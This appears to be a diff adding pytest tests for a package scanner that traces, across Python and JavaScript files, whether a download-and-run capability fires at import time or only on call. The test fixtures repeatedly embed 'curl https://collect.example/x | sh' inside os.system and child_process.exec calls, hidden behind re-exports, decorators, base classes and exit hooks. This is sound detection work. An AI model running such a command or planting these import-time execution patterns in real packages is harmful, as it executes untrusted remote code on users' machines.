@@ -1,0 +1,143 @@
+"""What one file makes, keeps or names is used in another one: told in the phase in which it runs there."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from fimci import sides
+from fimci.model import Capability
+from fimci.sources.locator import Locator
+
+LINE = "curl https://collect.example/x | sh"
+RUNS = f"require('child_process').exec('{LINE}')"
+SYSTEM = f"os.system('{LINE}')"
+
+
+def told(folder: Path, files: dict[str, str]) -> set[tuple[str, str]]:
+    """Return what a package of these files does, and when."""
+    for name, text in files.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+    found = sides.snapshot(Locator("dir", str(folder)), sides.recipe(code=True)).records
+    return {(one.name, one.phase) for one in found if isinstance(one, Capability)}
+
+
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [
+        ("from .b import Run\nRun().go()", f"import os\nclass Run:\n    def go(self): {SYSTEM}\n"),
+        ("from .b import Run\nr = Run()\nr.go()", f"import os\nclass Run:\n    def go(self): {SYSTEM}\n"),
+        (
+            "from .b import Run\nwith Run(f(1), (2)) as r:\n    r.go()",
+            f"import os\nclass Run:\n    def go(self): {SYSTEM}\n",
+        ),
+        ("from .b import run\nrun.__call__()", f"import os\ndef run(): {SYSTEM}\n"),
+        (
+            "from .b import mark\n@mark\ndef x(): pass",
+            f"import os\ndef mark(f):\n    {SYSTEM}\n    return f\n",
+        ),
+        (
+            "from .b import mark\nclass X:\n    @mark\n    def x(): pass",
+            f"import os\ndef mark(f):\n    {SYSTEM}\n    return f\n",
+        ),
+        (
+            "from .b import Base\nclass X(Base): pass\nX()",
+            f"import os\nclass Base:\n    def __init__(self): {SYSTEM}\n",
+        ),
+        (
+            "from .b import Base\nclass X(Base): pass\nX().go()",
+            f"import os\nclass Base:\n    def go(self): {SYSTEM}\n",
+        ),
+        (f"from .b import o\no.system('{LINE}')", "import os as o\n"),
+        (f"from .b import system\nsystem('{LINE}')", "from os import system\n"),
+        ("import os\nfrom .b import LINE\nos.system(LINE)", f"LINE = '{LINE}'\n"),
+        ("import os\nfrom .b import LINES\nfor one in LINES: os.system(one)", f"LINES = ['{LINE}']\n"),
+        ("import os\nfrom .b import line\nos.system(line())", f"def line():\n    return '{LINE}'\n"),
+    ],
+)
+def test_python(tmp_path: Path, first: str, second: str) -> None:
+    files = {"pkg/__init__.py": first + "\n", "pkg/b.py": second}
+    assert ("download-and-run", "import") in told(tmp_path, files)
+
+
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [
+        (
+            "const {Run} = require('./b');\nnew Run().go();",
+            f"exports.Run = class Run {{ go() {{ {RUNS} }} }};",
+        ),
+        (
+            "const Run = require('./b');\nconst r = new Run();\nr.go();",
+            f"module.exports = class {{ go() {{ {RUNS} }} }};",
+        ),
+        (
+            "const B = require('./b');\nclass X extends B {}\nnew X();",
+            f"module.exports = class {{ constructor() {{ {RUNS} }} }};",
+        ),
+        (
+            "const {B} = require('./b');\nclass X extends B {}\nnew X().go();",
+            f"exports.B = class B {{ go() {{ {RUNS} }} }};",
+        ),
+        ("const t = require('./b');\nt.tools['run']();", f"exports.tools = {{ run() {{ {RUNS} }} }};"),
+        ("process.on('exit', require('./b').run);", f"exports.run = () => {{ {RUNS} }};"),
+        ("Promise.resolve().then(require('./b').run);", f"exports.run = () => {{ {RUNS} }};"),
+        ("import('./b.js').then(m => m.run());", f"exports.run = () => {{ {RUNS} }};"),
+        (f"require('./b').exec('{LINE}');", "module.exports = require('child_process');"),
+        (
+            f"const {{exec}} = require('./b');\nexec('{LINE}');",
+            "exports.exec = require('child_process').exec;",
+        ),
+        (
+            "require('./b')(cp => cp.exec('" + LINE + "'));",
+            "module.exports = f => f(require('child_process'));",
+        ),
+        (
+            "const {LINE} = require('./b');\nrequire('child_process').exec(LINE);",
+            f"exports.LINE = '{LINE}';",
+        ),
+        (
+            "const b = require('./b');\nrequire('child_process').exec(b.line());",
+            f"exports.line = () => '{LINE}';",
+        ),
+        (
+            "const b = require('./b');\nrequire('child_process').exec(b.own);",
+            f"const LINE = '{LINE}';\nmodule.exports = {{ own: LINE }};",
+        ),
+    ],
+)
+def test_javascript(tmp_path: Path, first: str, second: str) -> None:
+    manifest = '{"name": "left", "version": "1.0.0", "main": "index.js"}'
+    files = {"package.json": manifest, "index.js": first + "\n", "b.js": second + "\n"}
+    assert ("download-and-run", "import") in told(tmp_path, files)
+
+
+@pytest.mark.parametrize(
+    "first",
+    [
+        "from .b import Run\nr = Run()\n\ndef later():\n    r.go()\n",
+        "from .b import Run\n\ndef later():\n    Run().go()\n",
+        "from .b import Run\nclass X(Run): pass\n",
+        "from .b import other\nother().go\n",
+    ],
+)
+def test_what_is_only_made_runs_nothing(tmp_path: Path, first: str) -> None:
+    second = f"import os\nclass Run:\n    def go(self): {SYSTEM}\ndef other(): pass\n"
+    found = told(tmp_path, {"pkg/__init__.py": first, "pkg/b.py": second})
+    assert ("download-and-run", "call") in found
+    assert ("download-and-run", "import") not in found
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "re.exec('curl is a program');",
+        "const {run} = require('./b');\nrun('curl https://left.example/ > page');",
+        "exports.help = 'use curl https://left.example/ | less';",
+    ],
+)
+def test_lines_that_run_nothing_are_no_commands(tmp_path: Path, text: str) -> None:
+    assert not {one for one, _ in told(tmp_path, {"index.js": text + "\n"})} & {"shell", "download-and-run"}
